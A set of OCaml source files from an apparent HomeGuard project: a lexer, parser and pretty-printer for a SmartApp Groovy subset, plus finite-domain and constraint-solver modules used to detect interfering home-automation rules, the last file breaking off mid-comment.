        | Token.RBRACKET ->
          advance st;
          Ast.List_lit (List.rev (e :: acc))
        | t -> error st "expected ',' or ']' in list literal, found %s" (Token.to_string t)
      in
      go []
    end

and parse_closure st =
  eat st Token.LBRACE;
  (* Lookahead for a parameter list: IDENT (',' IDENT)* '->' *)
  let params =
    let rec scan pos acc =
      match st.toks.(pos).tok with
      | Token.IDENT n -> (
        match st.toks.(pos + 1).tok with
        | Token.COMMA -> scan (pos + 2) (n :: acc)
        | Token.ARROW -> Some (List.rev (n :: acc), pos + 2)
        | _ -> None)
      | Token.ARROW when acc = [] -> Some ([], pos + 1)
      | Token.NEWLINE -> scan (pos + 1) acc
      | _ -> None
    in
    scan st.pos []
  in
  let params =
    match params with
    | Some (ps, next) ->
      st.pos <- next;
      ps
    | None -> []
  in
  let body = parse_statements_until st Token.RBRACE in
  eat st Token.RBRACE;
  Ast.Closure (params, body)

(** Parse an expression given as a source string (used for GString
    interpolation holes). *)
and parse_expr_string src =
  let toks = Array.of_list (Lexer.tokenize src) in
  let st = { toks; pos = 0 } in
  skip_newlines st;
  let e = parse_expression st in
  skip_separators st;
  if peek st <> Token.EOF then error st "trailing tokens in interpolated expression";
  e

(** Parse a complete SmartApp source string into a program. *)
let parse src =
  let toks = Array.of_list (Lexer.tokenize src) in
  let st = { toks; pos = 0 } in
  parse_program st

(** Parse a single statement (convenience for tests). *)
let parse_stmt src =
  match parse src with
  | [ Ast.Top_stmt s ] -> s
  | _ -> invalid_arg "parse_stmt: source is not a single statement"
