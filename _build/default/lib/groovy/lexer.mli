(** Lexer for the SmartApp Groovy subset.

    Newline-sensitivity is resolved here: newlines inside brackets or
    after tokens that cannot end a statement are suppressed, so the
    parser only sees meaningful [NEWLINE] tokens. *)

exception Error of string * int
(** Message and 1-based line number. *)

type located = { tok : Token.t; line : int }

val tokenize : string -> located list
(** Tokenize a complete source string; always ends with [EOF]. *)
