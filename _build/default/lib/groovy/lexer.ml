(** Lexer for the SmartApp Groovy subset.

    Groovy is newline-sensitive: a newline terminates a statement unless
    the statement is obviously unfinished. We resolve this entirely in the
    lexer: a newline is suppressed (not emitted) when it occurs inside an
    open paren/bracket or when the previous significant token cannot end a
    statement (operator, comma, dot, opening brace, [else], ...). The
    parser then only ever sees meaningful NEWLINE tokens, which it treats
    like semicolons. *)

exception Error of string * int  (** message, line *)

type located = { tok : Token.t; line : int }

let error line fmt = Printf.ksprintf (fun m -> raise (Error (m, line))) fmt

let is_digit c = c >= '0' && c <= '9'
let is_ident_start c = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c = '_' || c = '$'
let is_ident_char c = is_ident_start c || is_digit c

(* Can the given token end a statement? If not, a following newline is
   just line continuation. *)
let ends_statement = function
  | Token.INT _ | Token.FLOAT _ | Token.STRING _ | Token.DSTRING _
  | Token.IDENT _ | Token.KW_TRUE | Token.KW_FALSE | Token.KW_NULL
  | Token.KW_BREAK | Token.KW_CONTINUE | Token.KW_RETURN | Token.RPAREN
  | Token.RBRACE | Token.RBRACKET | Token.PLUS_PLUS | Token.MINUS_MINUS ->
    true
  | _ -> false

type state = {
  src : string;
  mutable pos : int;
  mutable line : int;
  mutable depth : int;  (** nesting of ( and [ — newlines suppressed inside *)
  mutable last : Token.t option;  (** last significant token emitted *)
  mutable toks : located list;  (** accumulated tokens, reversed *)
}

let peek st ofs = if st.pos + ofs < String.length st.src then Some st.src.[st.pos + ofs] else None
let cur st = peek st 0

let advance st = st.pos <- st.pos + 1

let emit st tok =
  (match tok with
  | Token.LPAREN | Token.LBRACKET -> st.depth <- st.depth + 1
  | Token.RPAREN | Token.RBRACKET -> st.depth <- max 0 (st.depth - 1)
  | _ -> ());
  st.last <- Some tok;
  st.toks <- { tok; line = st.line } :: st.toks

let emit_newline st =
  let suppress =
    st.depth > 0
    ||
    match st.last with
    | None | Some Token.NEWLINE -> true
    | Some t -> not (ends_statement t)
  in
  if not suppress then begin
    st.toks <- { tok = Token.NEWLINE; line = st.line } :: st.toks;
    st.last <- Some Token.NEWLINE
  end

let lex_line_comment st =
  let rec go () =
    match cur st with
    | Some '\n' | None -> ()
    | Some _ ->
      advance st;
      go ()
  in
  go ()

let lex_block_comment st =
  let rec go () =
    match (cur st, peek st 1) with
    | Some '*', Some '/' ->
      advance st;
      advance st
    | Some '\n', _ ->
      st.line <- st.line + 1;
      advance st;
      go ()
    | Some _, _ ->
      advance st;
      go ()
    | None, _ -> error st.line "unterminated block comment"
  in
  go ()

let lex_number st =
  let start = st.pos in
  let rec digits () =
    match cur st with
    | Some c when is_digit c ->
      advance st;
      digits ()
    | _ -> ()
  in
  digits ();
  let is_float =
    match (cur st, peek st 1) with
    | Some '.', Some c when is_digit c ->
      advance st;
      digits ();
      true
    | _ -> false
  in
  let text = String.sub st.src start (st.pos - start) in
  if is_float then emit st (Token.FLOAT (float_of_string text))
  else emit st (Token.INT (int_of_string text))

(* Single-quoted string: plain, supports \' \\ \n \t escapes. *)
let lex_sq_string st =
  advance st;
  let buf = Buffer.create 16 in
  let rec go () =
    match cur st with
    | None -> error st.line "unterminated string"
    | Some '\'' -> advance st
    | Some '\\' -> (
      advance st;
      match cur st with
      | Some 'n' ->
        Buffer.add_char buf '\n';
        advance st;
        go ()
      | Some 't' ->
        Buffer.add_char buf '\t';
        advance st;
        go ()
      | Some c ->
        Buffer.add_char buf c;
        advance st;
        go ()
      | None -> error st.line "unterminated string escape")
    | Some '\n' -> error st.line "newline in string literal"
    | Some c ->
      Buffer.add_char buf c;
      advance st;
      go ()
  in
  go ();
  emit st (Token.STRING (Buffer.contents buf))

(* Double-quoted GString with ${expr} and $ident interpolation. *)
let lex_dq_string st =
  advance st;
  let parts = ref [] in
  let buf = Buffer.create 16 in
  let flush_text () =
    if Buffer.length buf > 0 then begin
      parts := Token.G_text (Buffer.contents buf) :: !parts;
      Buffer.clear buf
    end
  in
  let rec go () =
    match cur st with
    | None -> error st.line "unterminated string"
    | Some '"' -> advance st
    | Some '\\' -> (
      advance st;
      match cur st with
      | Some 'n' ->
        Buffer.add_char buf '\n';
        advance st;
        go ()
      | Some 't' ->
        Buffer.add_char buf '\t';
        advance st;
        go ()
      | Some c ->
        Buffer.add_char buf c;
        advance st;
        go ()
      | None -> error st.line "unterminated string escape")
    | Some '$' when peek st 1 = Some '{' ->
      flush_text ();
      advance st;
      advance st;
      let start = st.pos in
      let depth = ref 1 in
      let rec scan () =
        match cur st with
        | None -> error st.line "unterminated interpolation"
        | Some '{' ->
          incr depth;
          advance st;
          scan ()
        | Some '}' ->
          decr depth;
          if !depth = 0 then ()
          else begin
            advance st;
            scan ()
          end
        | Some '\n' ->
          st.line <- st.line + 1;
          advance st;
          scan ()
        | Some _ ->
          advance st;
          scan ()
      in
      scan ();
      parts := Token.G_code (String.sub st.src start (st.pos - start)) :: !parts;
      advance st;
      go ()
    | Some '$' when (match peek st 1 with Some c -> is_ident_start c | None -> false) ->
      flush_text ();
      advance st;
      let start = st.pos in
      let rec scan () =
        match cur st with
        | Some c when is_ident_char c || c = '.' ->
          (* $a.b.c style property interpolation *)
          advance st;
          scan ()
        | _ -> ()
      in
      scan ();
      parts := Token.G_code (String.sub st.src start (st.pos - start)) :: !parts;
      go ()
    | Some '\n' -> error st.line "newline in string literal"
    | Some c ->
      Buffer.add_char buf c;
      advance st;
      go ()
  in
  go ();
  flush_text ();
  emit st (Token.DSTRING (List.rev !parts))

let lex_ident st =
  let start = st.pos in
  let rec go () =
    match cur st with
    | Some c when is_ident_char c ->
      advance st;
      go ()
    | _ -> ()
  in
  go ();
  let text = String.sub st.src start (st.pos - start) in
  match Token.keyword_of_string text with
  | Some kw -> emit st kw
  | None -> emit st (Token.IDENT text)

let rec lex_token st =
  match cur st with
  | None -> ()
  | Some c ->
    (match c with
    | ' ' | '\t' | '\r' -> advance st
    | '\n' ->
      advance st;
      emit_newline st;
      st.line <- st.line + 1
    | '/' when peek st 1 = Some '/' -> lex_line_comment st
    | '/' when peek st 1 = Some '*' ->
      advance st;
      advance st;
      lex_block_comment st
    | '\'' -> lex_sq_string st
    | '"' -> lex_dq_string st
    | c when is_digit c -> lex_number st
    | c when is_ident_start c -> lex_ident st
    | '(' ->
      advance st;
      emit st Token.LPAREN
    | ')' ->
      advance st;
      emit st Token.RPAREN
    | '{' ->
      advance st;
      emit st Token.LBRACE
    | '}' ->
      advance st;
      emit st Token.RBRACE
    | '[' ->
      advance st;
      emit st Token.LBRACKET
    | ']' ->
      advance st;
      emit st Token.RBRACKET
    | ',' ->
      advance st;
      emit st Token.COMMA
    | ';' ->
      advance st;
      emit st Token.SEMI
    | ':' ->
      advance st;
      emit st Token.COLON
    | '.' ->
      advance st;
      if cur st = Some '.' then begin
        advance st;
        emit st Token.DOTDOT
      end
      else emit st Token.DOT
    | '?' -> (
      advance st;
      match cur st with
      | Some '.' ->
        advance st;
        emit st Token.SAFE_DOT
      | Some ':' ->
        advance st;
        emit st Token.ELVIS
      | _ -> emit st Token.QUESTION)
    | '=' ->
      advance st;
      if cur st = Some '=' then begin
        advance st;
        emit st Token.EQ
      end
      else emit st Token.ASSIGN
    | '!' ->
      advance st;
      if cur st = Some '=' then begin
        advance st;
        emit st Token.NEQ
      end
      else emit st Token.BANG
    | '<' ->
      advance st;
      if cur st = Some '=' then begin
        advance st;
        emit st Token.LE
      end
      else emit st Token.LT
    | '>' ->
      advance st;
      if cur st = Some '=' then begin
        advance st;
        emit st Token.GE
      end
      else emit st Token.GT
    | '+' -> (
      advance st;
      match cur st with
      | Some '+' ->
        advance st;
        emit st Token.PLUS_PLUS
      | Some '=' ->
        advance st;
        emit st Token.PLUS_ASSIGN
      | _ -> emit st Token.PLUS)
    | '-' -> (
      advance st;
      match cur st with
      | Some '-' ->
        advance st;
        emit st Token.MINUS_MINUS
      | Some '=' ->
        advance st;
        emit st Token.MINUS_ASSIGN
      | Some '>' ->
        advance st;
        emit st Token.ARROW
      | _ -> emit st Token.MINUS)
    | '*' ->
      advance st;
      if cur st = Some '=' then begin
        advance st;
        emit st Token.STAR_ASSIGN
      end
      else emit st Token.STAR
    | '/' ->
      advance st;
      if cur st = Some '=' then begin
        advance st;
        emit st Token.SLASH_ASSIGN
      end
      else emit st Token.SLASH
    | '%' ->
      advance st;
      emit st Token.PERCENT
    | '&' ->
      advance st;
      if cur st = Some '&' then begin
        advance st;
        emit st Token.AND_AND
      end
      else error st.line "unexpected character '&'"
    | '|' ->
      advance st;
      if cur st = Some '|' then begin
        advance st;
        emit st Token.OR_OR
      end
      else error st.line "unexpected character '|'"
    | c -> error st.line "unexpected character %C" c);
    lex_token st

(** Tokenize a complete source string. The resulting stream always ends
    with an [EOF] token. *)
let tokenize src =
  let st = { src; pos = 0; line = 1; depth = 0; last = None; toks = [] } in
  lex_token st;
  st.toks <- { tok = Token.EOF; line = st.line } :: st.toks;
  List.rev st.toks
