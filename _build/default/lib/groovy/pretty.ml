(** Pretty-printer for the SmartApp Groovy subset.

    Prints ASTs back to concrete syntax that re-parses to the same tree
    (modulo desugaring the parser already performs), which the test suite
    checks as a round-trip property. Output is fully parenthesised at
    expression level to avoid re-associating operators. *)

open Ast

let buf_add = Buffer.add_string

let escape_sq s =
  let buf = Buffer.create (String.length s) in
  String.iter
    (fun c ->
      match c with
      | '\'' -> buf_add buf "\\'"
      | '\\' -> buf_add buf "\\\\"
      | '\n' -> buf_add buf "\\n"
      | '\t' -> buf_add buf "\\t"
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let escape_dq s =
  let buf = Buffer.create (String.length s) in
  String.iter
    (fun c ->
      match c with
      | '"' -> buf_add buf "\\\""
      | '$' -> buf_add buf "\\$"
      | '\\' -> buf_add buf "\\\\"
      | '\n' -> buf_add buf "\\n"
      | '\t' -> buf_add buf "\\t"
      | c -> Buffer.add_char buf c)
    s;
  Buffer.contents buf

let lit_to_string = function
  | Int n -> if n < 0 then Printf.sprintf "(%d)" n else string_of_int n
  | Float f ->
    let s = Printf.sprintf "%.6f" f in
    if f < 0.0 then "(" ^ s ^ ")" else s
  | Str s -> Printf.sprintf "'%s'" (escape_sq s)
  | Bool true -> "true"
  | Bool false -> "false"
  | Null -> "null"

let binop_to_string = function
  | Add -> "+"
  | Sub -> "-"
  | Mul -> "*"
  | Div -> "/"
  | Mod -> "%"
  | Eq -> "=="
  | Neq -> "!="
  | Lt -> "<"
  | Le -> "<="
  | Gt -> ">"
  | Ge -> ">="
  | And -> "&&"
  | Or -> "||"
  | In_op -> "in"
  | Elvis -> "?:"

let rec expr_to_buf buf e =
  match e with
  | Lit l -> buf_add buf (lit_to_string l)
  | Gstring parts ->
    buf_add buf "\"";
    List.iter
      (function
        | Text s -> buf_add buf (escape_dq s)
        | Interp e ->
          buf_add buf "${";
          expr_to_buf buf e;
          buf_add buf "}")
      parts;
    buf_add buf "\""
  | Ident n -> buf_add buf n
  | List_lit es ->
    buf_add buf "[";
    List.iteri
      (fun i e ->
        if i > 0 then buf_add buf ", ";
        expr_to_buf buf e)
      es;
    buf_add buf "]"
  | Map_lit [] -> buf_add buf "[:]"
  | Map_lit kvs ->
    buf_add buf "[";
    List.iteri
      (fun i (k, v) ->
        if i > 0 then buf_add buf ", ";
        buf_add buf k;
        buf_add buf ": ";
        expr_to_buf buf v)
      kvs;
    buf_add buf "]"
  | Range (a, b) ->
    buf_add buf "(";
    expr_to_buf buf a;
    buf_add buf "..";
    expr_to_buf buf b;
    buf_add buf ")"
  | Binop (op, a, b) ->
    buf_add buf "(";
    expr_to_buf buf a;
    buf_add buf (" " ^ binop_to_string op ^ " ");
    expr_to_buf buf b;
    buf_add buf ")"
  | Unop (Not, e) ->
    buf_add buf "!(";
    expr_to_buf buf e;
    buf_add buf ")"
  | Unop (Neg, e) ->
    buf_add buf "-(";
    expr_to_buf buf e;
    buf_add buf ")"
  | Ternary (c, t, f) ->
    buf_add buf "(";
    expr_to_buf buf c;
    buf_add buf " ? ";
    expr_to_buf buf t;
    buf_add buf " : ";
    expr_to_buf buf f;
    buf_add buf ")"
  | Prop (e, n) ->
    primary_to_buf buf e;
    buf_add buf ("." ^ n)
  | Safe_prop (e, n) ->
    primary_to_buf buf e;
    buf_add buf ("?." ^ n)
  | Index (e, i) ->
    primary_to_buf buf e;
    buf_add buf "[";
    expr_to_buf buf i;
    buf_add buf "]"
  | Call (recv, name, args) ->
    (match recv with
    | Some r ->
      primary_to_buf buf r;
      buf_add buf "."
    | None -> ());
    buf_add buf name;
    buf_add buf "(";
    List.iteri
      (fun i a ->
        if i > 0 then buf_add buf ", ";
        arg_to_buf buf a)
      args;
    buf_add buf ")"
  | Closure (params, body) ->
    buf_add buf "{ ";
    if params <> [] then begin
      buf_add buf (String.concat ", " params);
      buf_add buf " -> "
    end;
    List.iteri
      (fun i s ->
        if i > 0 then buf_add buf "; ";
        stmt_to_buf buf 0 ~inline:true s)
      body;
    buf_add buf " }"
  | Assign (lv, rhs) ->
    expr_to_buf buf lv;
    buf_add buf " = ";
    expr_to_buf buf rhs
  | New (cls, args) ->
    buf_add buf ("new " ^ cls ^ "(");
    List.iteri
      (fun i a ->
        if i > 0 then buf_add buf ", ";
        arg_to_buf buf a)
      args;
    buf_add buf ")"

(* Receivers of [.], [?.], [[...]] must be primaries; parenthesise
   anything that is not already atomic. *)
and primary_to_buf buf e =
  match e with
  | Lit _ | Ident _ | Call _ | Prop _ | Safe_prop _ | Index _ | List_lit _ | Map_lit _
  | Gstring _ ->
    expr_to_buf buf e
  | _ ->
    buf_add buf "(";
    expr_to_buf buf e;
    buf_add buf ")"

and arg_to_buf buf = function
  | Pos e -> expr_to_buf buf e
  | Named (k, e) ->
    buf_add buf (k ^ ": ");
    expr_to_buf buf e

and stmt_to_buf buf indent ?(inline = false) s =
  let pad = if inline then "" else String.make (indent * 2) ' ' in
  buf_add buf pad;
  match s with
  | Expr_stmt e -> expr_to_buf buf e
  | Def_var (n, None) -> buf_add buf ("def " ^ n)
  | Def_var (n, Some e) ->
    buf_add buf ("def " ^ n ^ " = ");
    expr_to_buf buf e
  | If (c, t, e) ->
    buf_add buf "if (";
    expr_to_buf buf c;
    buf_add buf ") {\n";
    block_to_buf buf (indent + 1) t;
    buf_add buf (pad ^ "}");
    if e <> [] then begin
      buf_add buf " else {\n";
      block_to_buf buf (indent + 1) e;
      buf_add buf (pad ^ "}")
    end
  | Switch (e, cases) ->
    buf_add buf "switch (";
    expr_to_buf buf e;
    buf_add buf ") {\n";
    List.iter
      (fun case ->
        let cpad = String.make ((indent + 1) * 2) ' ' in
        match case with
        | Case (v, body) ->
          buf_add buf (cpad ^ "case ");
          expr_to_buf buf v;
          buf_add buf ":\n";
          block_to_buf buf (indent + 2) body
        | Default body ->
          buf_add buf (cpad ^ "default:\n");
          block_to_buf buf (indent + 2) body)
      cases;
    buf_add buf (pad ^ "}")
  | Return None -> buf_add buf "return"
  | Return (Some e) ->
    buf_add buf "return ";
    expr_to_buf buf e
  | For_in (x, e, body) ->
    buf_add buf ("for (" ^ x ^ " in ");
    expr_to_buf buf e;
    buf_add buf ") {\n";
    block_to_buf buf (indent + 1) body;
    buf_add buf (pad ^ "}")
  | While (c, body) ->
    buf_add buf "while (";
    expr_to_buf buf c;
    buf_add buf ") {\n";
    block_to_buf buf (indent + 1) body;
    buf_add buf (pad ^ "}")
  | Break -> buf_add buf "break"
  | Continue -> buf_add buf "continue"
  | Try (body, exn, handler) ->
    buf_add buf "try {\n";
    block_to_buf buf (indent + 1) body;
    buf_add buf (pad ^ "} catch (" ^ exn ^ ") {\n");
    block_to_buf buf (indent + 1) handler;
    buf_add buf (pad ^ "}")

and block_to_buf buf indent stmts =
  List.iter
    (fun s ->
      stmt_to_buf buf indent s;
      buf_add buf "\n")
    stmts

let expr_to_string e =
  let buf = Buffer.create 64 in
  expr_to_buf buf e;
  Buffer.contents buf

let stmt_to_string s =
  let buf = Buffer.create 64 in
  stmt_to_buf buf 0 s;
  Buffer.contents buf

let method_to_string (m : method_def) =
  let buf = Buffer.create 256 in
  buf_add buf ("def " ^ m.name ^ "(" ^ String.concat ", " m.params ^ ") {\n");
  block_to_buf buf 1 m.body;
  buf_add buf "}";
  Buffer.contents buf

let program_to_string prog =
  let buf = Buffer.create 1024 in
  List.iter
    (fun top ->
      (match top with
      | Method m -> buf_add buf (method_to_string m)
      | Top_stmt s -> stmt_to_buf buf 0 s);
      buf_add buf "\n")
    prog;
  Buffer.contents buf
