(** Lexical tokens of the SmartApp Groovy subset.

    The lexer produces a flat token stream; double-quoted strings keep
    their interpolation holes as raw source text ([G_code]) which the
    parser re-enters to parse as expressions. *)

type gpart =
  | G_text of string  (** literal text between interpolation holes *)
  | G_code of string  (** raw source of a [${...}] or [$ident] hole *)

type t =
  | INT of int
  | FLOAT of float
  | STRING of string  (** single-quoted: no interpolation *)
  | DSTRING of gpart list  (** double-quoted GString *)
  | IDENT of string
  (* keywords *)
  | KW_DEF
  | KW_IF
  | KW_ELSE
  | KW_SWITCH
  | KW_CASE
  | KW_DEFAULT
  | KW_RETURN
  | KW_TRUE
  | KW_FALSE
  | KW_NULL
  | KW_FOR
  | KW_WHILE
  | KW_IN
  | KW_BREAK
  | KW_CONTINUE
  | KW_NEW
  | KW_TRY
  | KW_CATCH
  (* punctuation and operators *)
  | LPAREN
  | RPAREN
  | LBRACE
  | RBRACE
  | LBRACKET
  | RBRACKET
  | COMMA
  | SEMI
  | NEWLINE
  | DOT
  | SAFE_DOT  (** [?.] *)
  | COLON
  | QUESTION
  | ELVIS  (** [?:] *)
  | ARROW  (** [->] *)
  | ASSIGN
  | PLUS_ASSIGN
  | MINUS_ASSIGN
  | STAR_ASSIGN
  | SLASH_ASSIGN
  | PLUS_PLUS
  | MINUS_MINUS
  | EQ
  | NEQ
  | LT
  | LE
  | GT
  | GE
  | PLUS
  | MINUS
  | STAR
  | SLASH
  | PERCENT
  | BANG
  | AND_AND
  | OR_OR
  | DOTDOT  (** range [a..b] *)
  | EOF

let keyword_of_string = function
  | "def" -> Some KW_DEF
  | "if" -> Some KW_IF
  | "else" -> Some KW_ELSE
  | "switch" -> Some KW_SWITCH
  | "case" -> Some KW_CASE
  | "default" -> Some KW_DEFAULT
  | "return" -> Some KW_RETURN
  | "true" -> Some KW_TRUE
  | "false" -> Some KW_FALSE
  | "null" -> Some KW_NULL
  | "for" -> Some KW_FOR
  | "while" -> Some KW_WHILE
  | "in" -> Some KW_IN
  | "break" -> Some KW_BREAK
  | "continue" -> Some KW_CONTINUE
  | "new" -> Some KW_NEW
  | "try" -> Some KW_TRY
  | "catch" -> Some KW_CATCH
  | _ -> None

let to_string = function
  | INT n -> string_of_int n
  | FLOAT f -> string_of_float f
  | STRING s -> Printf.sprintf "'%s'" s
  | DSTRING parts ->
    let part = function
      | G_text s -> s
      | G_code s -> "${" ^ s ^ "}"
    in
    Printf.sprintf "\"%s\"" (String.concat "" (List.map part parts))
  | IDENT s -> s
  | KW_DEF -> "def"
  | KW_IF -> "if"
  | KW_ELSE -> "else"
  | KW_SWITCH -> "switch"
  | KW_CASE -> "case"
  | KW_DEFAULT -> "default"
  | KW_RETURN -> "return"
  | KW_TRUE -> "true"
  | KW_FALSE -> "false"
  | KW_NULL -> "null"
  | KW_FOR -> "for"
  | KW_WHILE -> "while"
  | KW_IN -> "in"
  | KW_BREAK -> "break"
  | KW_CONTINUE -> "continue"
  | KW_NEW -> "new"
  | KW_TRY -> "try"
  | KW_CATCH -> "catch"
  | LPAREN -> "("
  | RPAREN -> ")"
  | LBRACE -> "{"
  | RBRACE -> "}"
  | LBRACKET -> "["
  | RBRACKET -> "]"
  | COMMA -> ","
  | SEMI -> ";"
  | NEWLINE -> "<newline>"
  | DOT -> "."
  | SAFE_DOT -> "?."
  | COLON -> ":"
  | QUESTION -> "?"
  | ELVIS -> "?:"
  | ARROW -> "->"
  | ASSIGN -> "="
  | PLUS_ASSIGN -> "+="
  | MINUS_ASSIGN -> "-="
  | STAR_ASSIGN -> "*="
  | SLASH_ASSIGN -> "/="
  | PLUS_PLUS -> "++"
  | MINUS_MINUS -> "--"
  | EQ -> "=="
  | NEQ -> "!="
  | LT -> "<"
  | LE -> "<="
  | GT -> ">"
  | GE -> ">="
  | PLUS -> "+"
  | MINUS -> "-"
  | STAR -> "*"
  | SLASH -> "/"
  | PERCENT -> "%"
  | BANG -> "!"
  | AND_AND -> "&&"
  | OR_OR -> "||"
  | DOTDOT -> ".."
  | EOF -> "<eof>"
