(** Finite domains for solver variables.

    Integer domains are interval sets: sorted lists of disjoint,
    non-adjacent closed intervals — the classic FD-solver representation
    (JaCoP's IntervalDomain, which the paper uses, has the same shape).
    Enumerated domains are sorted string lists. *)

type iset = (int * int) list  (** sorted, disjoint, non-adjacent [lo,hi] *)

type t = Ints of iset | Enums of string list  (** sorted, distinct *)

let empty_ints : t = Ints []
let empty_enums : t = Enums []

(* -- interval-set algebra ------------------------------------------------ *)

(* Normalise a list of possibly overlapping intervals. *)
let normalize intervals =
  let sorted = List.sort (fun (a, _) (b, _) -> compare a b) intervals in
  let rec merge = function
    | [] -> []
    | [ iv ] -> [ iv ]
    | (a1, b1) :: (a2, b2) :: rest ->
      if a2 <= b1 + 1 then merge ((a1, max b1 b2) :: rest)
      else (a1, b1) :: merge ((a2, b2) :: rest)
  in
  merge (List.filter (fun (a, b) -> a <= b) sorted)

let interval lo hi : t = Ints (normalize [ (lo, hi) ])
let int_singleton n : t = Ints [ (n, n) ]

let enums values : t = Enums (List.sort_uniq compare values)
let enum_singleton v : t = Enums [ v ]

let is_empty = function Ints iv -> iv = [] | Enums vs -> vs = []

let size = function
  | Ints iv -> List.fold_left (fun acc (a, b) -> acc + (b - a + 1)) 0 iv
  | Enums vs -> List.length vs

let iset_mem n iv = List.exists (fun (a, b) -> a <= n && n <= b) iv

let mem_int n = function Ints iv -> iset_mem n iv | Enums _ -> false
let mem_str s = function Enums vs -> List.mem s vs | Ints _ -> false

let min_int_opt = function Ints ((a, _) :: _) -> Some a | _ -> None
let max_int_opt = function
  | Ints iv -> ( match List.rev iv with (_, b) :: _ -> Some b | [] -> None)
  | Enums _ -> None

let iset_inter xs ys =
  let rec go xs ys acc =
    match (xs, ys) with
    | [], _ | _, [] -> List.rev acc
    | (a1, b1) :: xs', (a2, b2) :: ys' ->
      let lo = max a1 a2 and hi = min b1 b2 in
      let acc = if lo <= hi then (lo, hi) :: acc else acc in
      if b1 < b2 then go xs' ys acc else go xs ys' acc
  in
  go xs ys []

let iset_union xs ys = normalize (xs @ ys)

let iset_remove n iv =
  List.concat_map
    (fun (a, b) ->
      if n < a || n > b then [ (a, b) ]
      else List.filter (fun (x, y) -> x <= y) [ (a, n - 1); (n + 1, b) ])
    iv

(* Keep only values <= hi. *)
let iset_at_most hi iv =
  List.filter_map (fun (a, b) -> if a > hi then None else Some (a, min b hi)) iv

let iset_at_least lo iv =
  List.filter_map (fun (a, b) -> if b < lo then None else Some (max a lo, b)) iv

exception Type_clash

(** Intersection; raises {!Type_clash} on int/enum mismatch. *)
let inter d1 d2 =
  match (d1, d2) with
  | Ints x, Ints y -> Ints (iset_inter x y)
  | Enums x, Enums y -> Enums (List.filter (fun v -> List.mem v y) x)
  | _ -> raise Type_clash

let union d1 d2 =
  match (d1, d2) with
  | Ints x, Ints y -> Ints (iset_union x y)
  | Enums x, Enums y -> Enums (List.sort_uniq compare (x @ y))
  | _ -> raise Type_clash

let remove_int n = function Ints iv -> Ints (iset_remove n iv) | Enums _ as d -> d
let remove_str s = function
  | Enums vs -> Enums (List.filter (fun v -> v <> s) vs)
  | Ints _ as d -> d

let at_most hi = function Ints iv -> Ints (iset_at_most hi iv) | Enums _ as d -> d
let at_least lo = function Ints iv -> Ints (iset_at_least lo iv) | Enums _ as d -> d

(** The single value if the domain is a singleton. *)
type value = Int of int | Str of string

let value_to_string = function Int n -> string_of_int n | Str s -> s

let singleton_value = function
  | Ints [ (a, b) ] when a = b -> Some (Int a)
  | Enums [ v ] -> Some (Str v)
  | _ -> None

(** Any representative value — for ints, the member closest to zero, so
    witness models read naturally. *)
let choose = function
  | Ints [] | Enums [] -> None
  | Ints iv ->
    let best (a, b) = if a <= 0 && 0 <= b then 0 else if abs a < abs b then a else b in
    let candidates = List.map best iv in
    Some
      (Int
         (List.fold_left
            (fun acc n -> if abs n < abs acc then n else acc)
            (List.hd candidates) candidates))
  | Enums (v :: _) -> Some (Str v)

(** Distance from the domain to zero (0 when 0 is a member); used to
    order search branches so models prefer small-magnitude values. *)
let distance_to_zero = function
  | Enums _ -> 0
  | Ints iv -> (
    match choose (Ints iv) with Some (Int n) -> abs n | _ -> max_int)

(** Split a domain into two non-empty halves for search (requires
    [size >= 2]). *)
let split = function
  | Ints iv as d ->
    let lo = Option.get (min_int_opt d) and hi = Option.get (max_int_opt d) in
    let mid = lo + ((hi - lo) / 2) in
    (Ints (iset_at_most mid iv), Ints (iset_at_least (mid + 1) iv))
  | Enums vs ->
    let n = List.length vs / 2 in
    let rec take k = function
      | x :: rest when k > 0 ->
        let l, r = take (k - 1) rest in
        (x :: l, r)
      | rest -> ([], rest)
    in
    let l, r = take (max 1 n) vs in
    (Enums l, Enums r)

let values = function
  | Ints iv ->
    List.concat_map (fun (a, b) -> List.init (b - a + 1) (fun i -> Int (a + i))) iv
  | Enums vs -> List.map (fun v -> Str v) vs

let to_string = function
  | Ints iv ->
    let part (a, b) = if a = b then string_of_int a else Printf.sprintf "%d..%d" a b in
    "{" ^ String.concat ", " (List.map part iv) ^ "}"
  | Enums vs -> "{" ^ String.concat ", " vs ^ "}"

let equal d1 d2 = d1 = d2
