(** Human-readable rendering of solver models. *)

val value_to_string : Domain.value -> string
val binding_to_string : string * Domain.value -> string

val model_to_string : Solver.model -> string
(** "when x is 31 and y is rainy"; solver-internal sentinels hidden. *)
