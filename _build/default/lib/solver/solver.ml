(** Top-level constraint-satisfaction interface.

    This is HomeGuard's substitute for the JaCoP solver: decide
    satisfiability of quantifier-free formulas over bounded integers and
    enumerated strings, and return a witness model used to explain under
    which situation two rules interfere (paper §VI-A2). *)

type model = Search.model

(** Lazy DPLL-style solving (also the ablation A3 variant): split on
    disjunctions without materialising the full DNF. *)
let satisfiable_dpll store f : model option =
  let store = Store.infer store f in
  let f = Formula.nnf f in
  (* Separate a conjunction into literal atoms and remaining disjunctions. *)
  let rec flatten acc_atoms acc_ors = function
    | [] -> (acc_atoms, List.rev acc_ors)
    | Formula.True :: rest -> flatten acc_atoms acc_ors rest
    | Formula.False :: _ -> raise Exit
    | Formula.Atom (cmp, a, b) :: rest -> flatten ((cmp, a, b) :: acc_atoms) acc_ors rest
    | Formula.And fs :: rest -> flatten acc_atoms acc_ors (fs @ rest)
    | (Formula.Or _ as f) :: rest -> flatten acc_atoms (f :: acc_ors) rest
    | Formula.Not _ :: _ -> invalid_arg "satisfiable_dpll: not in NNF"
  in
  let rec go fs =
    match flatten [] [] fs with
    | exception Exit -> None
    | atoms, [] -> Search.solve store atoms
    | atoms, Formula.Or disjuncts :: ors ->
      List.find_map
        (fun d ->
          go (d :: ors @ List.map (fun (cmp, a, b) -> Formula.Atom (cmp, a, b)) atoms))
        disjuncts
    | _, _ :: _ -> assert false
  in
  go [ f ]

(** [satisfiable store f] — DNF + propagate-and-split per conjunct; the
    store is closed over free variables via {!Store.infer}. Formulas
    whose DNF would explode fall back to the lazy splitting above. *)
let satisfiable store f : model option =
  let store' = Store.infer store f in
  match Dnf.of_formula f with
  | conjuncts -> List.find_map (Search.solve store') conjuncts
  | exception Dnf.Too_large -> satisfiable_dpll store f

(** [sat store f] — satisfiability as a boolean. *)
let sat store f = Option.is_some (satisfiable store f)

(** [entails store f g]: every model of [f] satisfies [g]
